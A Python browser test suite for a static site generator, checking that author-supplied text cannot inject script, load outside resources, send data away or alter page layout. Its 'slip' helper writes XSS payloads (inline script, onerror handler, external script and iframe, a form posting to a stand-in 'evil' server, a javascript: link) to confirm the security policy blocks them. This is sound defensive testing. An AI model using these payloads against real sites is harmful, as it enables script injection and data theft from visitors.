"""What an author may type cannot run, leave the site or change the shape of a page."""

from collections.abc import Iterator
from pathlib import Path
from typing import get_args
from urllib.parse import quote

import pytest
from example import built, served
from hostile_site import FILES, OWNED
from opening import opened
from playwright.sync_api import Browser

from okrsite.base import package
from okrsite.model import schema
from okrsite.model.schema import Fields
from okrsite.model.schema.values import Prose, Text
from okrsite.render import theme

pytestmark = [pytest.mark.browser, pytest.mark.promise]

ASSETS = package.themes() / theme.DEFAULT / "assets"
SCRIPTS = {f"/assets/{path.name}" for path in ASSETS.glob("*.js")}

READ_FURTHER = {"value", "values", "scores", "change", "lag", "worse_by", "than", "series"}
READ_FURTHER |= {"formula", "grace", "company_stage", "audience", "ignore", "units"}
"""Fields that are typed as text and mean a number, a name or a rule: an attack is an error."""

SHAPE = """() => ({
  owned: typeof window.owned !== 'undefined',
  scripts: [...document.scripts].map(e => new URL(e.src).pathname),
  parts: ['header.top', 'nav.rail', 'main', 'footer', 'title', 'h1'].map(
    name => document.querySelectorAll(name === 'title' ? 'head > title' : name).length),
  alien: [...document.querySelectorAll(
    'iframe, object, embed, style, base, meta[http-equiv=refresh], [style], [autofocus],' +
    'form:not([role=search]), img:not(.badge)'
  )].map(e => e.outerHTML.slice(0, 100)),
  handlers: [...document.querySelectorAll('*')].filter(
    e => [...e.attributes].some(a => a.name.startsWith('on'))).map(e => e.outerHTML.slice(0, 100)),
  schemes: [...new Set([...document.querySelectorAll('[href], [src]')].map(
    e => new URL(e.getAttribute('href') || e.getAttribute('src'), document.baseURI).protocol))],
  shown: getComputedStyle(document.body).display,
})"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("hostile")
    for name, text in FILES.items():
        path = project / (name if name == "okrsite.toml" else f"content/{name}")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return built(project, tmp_path_factory.mktemp("site"))


@pytest.fixture(scope="module")
def address(hostile: Path) -> Iterator[str]:
    with served(hostile) as found:
        yield found


def test_every_text_field_of_every_kind_of_file_is_attacked() -> None:
    models = [one for one in vars(schema).values() if isinstance(one, type)]
    fields = {
        name
        for model in models
        if issubclass(model, Fields)
        for name, field in model.model_fields.items()
        if any(mark in _marks(field) for mark in (*get_args(Text)[1:], *get_args(Prose)[1:]))
    }
    written = "\n".join(FILES.values())
    attacked = {name for name in fields if f"{name}: >-" in written or f"{name}:\n" in written}
    assert fields - READ_FURTHER - attacked == set()
    assert len(fields) > 20


def _marks(field: object) -> list[object]:
    """The validators of a field and of what it holds."""
    found = [*getattr(field, "metadata", ())]
    todo = [getattr(field, "annotation", None)]
    while todo:
        one = todo.pop()
        found += getattr(one, "__metadata__", ())
        todo += get_args(one)
    return found


@pytest.mark.parametrize("has_policy", [True, False])
def test_no_text_runs_leaves_or_changes_the_shape_of_a_page(
    browser: Browser, hostile: Path, address: str, *, has_policy: bool
) -> None:
    with opened(browser, f"{address}/index.html", bypass_csp=not has_policy) as (page, said):
        page.on("dialog", lambda dialog: said.append(dialog.message))
        for path in sorted(hostile.rglob("*.html")):
            page.goto(f"{address}/{quote(path.relative_to(hostile).as_posix())}")
            found = page.evaluate(SHAPE)
            assert not found["owned"], path
            assert set(found["scripts"]) <= SCRIPTS, path
            assert found["parts"] == [1] * 6, path
            assert found["alien"] + found["handlers"] == [], path
            assert set(found["schemes"]) <= {"http:", "https:", "mailto:"}, path
            assert found["shown"] != "none", path
    cut_off = f"failed: {address}/"  # by leaving the page
    assert [one for one in said if not one.startswith(cut_off)] == []


def test_the_policy_stops_what_would_slip_through(
    browser: Browser, hostile: Path, address: str, tmp_path: Path
) -> None:
    asked: list[str] = []
    with served(tmp_path, asked) as evil:
        slip(hostile, evil)
        with opened(browser, f"{address}/slipped.html") as (page, said):
            page.locator("#run").evaluate("e => e.click()")
            assert page.evaluate("typeof window.owned") == "undefined"
            assert page.evaluate("getComputedStyle(document.body).display") != "none"
            assert (
                page.locator("#slipped").evaluate("e => getComputedStyle(e).position") == "static"
            )
            page.locator("#send").evaluate("e => e.click()")
            page.wait_for_timeout(200)
            assert page.url.startswith(address)
    assert asked == []
    assert sum("Content Security Policy" in one for one in said) >= 6


def slip(site: Path, evil: str) -> None:
    """A page of the site as it would be if every attack had come through."""
    text = (site / "index.html").read_text(encoding="utf-8")
    slipped = (
        f"<script>{OWNED}</script><img src='{evil}/x' onerror='{OWNED}'>"
        f"<style>body{{display:none}}</style><script src='{evil}/x.js'></script>"
        f"<p style='position:fixed' id='slipped'>x</p><iframe src='{evil}/'></iframe>"
        f"<form action='{evil}/'><button id='send'>x</button></form>"
        f"<a id='run' href='javascript:{OWNED}'>x</a>"
    )
    (site / "slipped.html").write_text(text.replace("<main", f"{slipped}<main"), encoding="utf-8")
